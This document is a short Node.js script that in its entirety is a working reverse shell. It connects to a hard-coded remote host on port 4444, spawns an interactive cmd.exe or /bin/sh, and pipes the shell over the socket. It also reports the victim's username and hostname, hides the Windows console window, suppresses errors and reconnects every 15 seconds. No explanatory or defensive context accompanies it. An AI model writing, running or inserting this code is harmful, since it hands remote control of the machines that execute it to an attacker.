const net = require("net");
const { spawn } = require("child_process");
const os = require("os");

const HOST = "203.0.113.77";
const PORT = 4444;

function connect() {
  const sock = new net.Socket();
  sock.connect(PORT, HOST, () => {
    const shell = os.platform() === "win32" ? "cmd.exe" : "/bin/sh";
    const sh = spawn(shell, os.platform() === "win32" ? [] : ["-i"], { windowsHide: true });
    sock.write(`[+] ${os.userInfo().username}@${os.hostname()} ${os.platform()}\n`);
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
    sh.on("exit", () => sock.destroy());
  });
  sock.on("error", () => {});
  sock.on("close", () => setTimeout(connect, 15000));
}

connect();
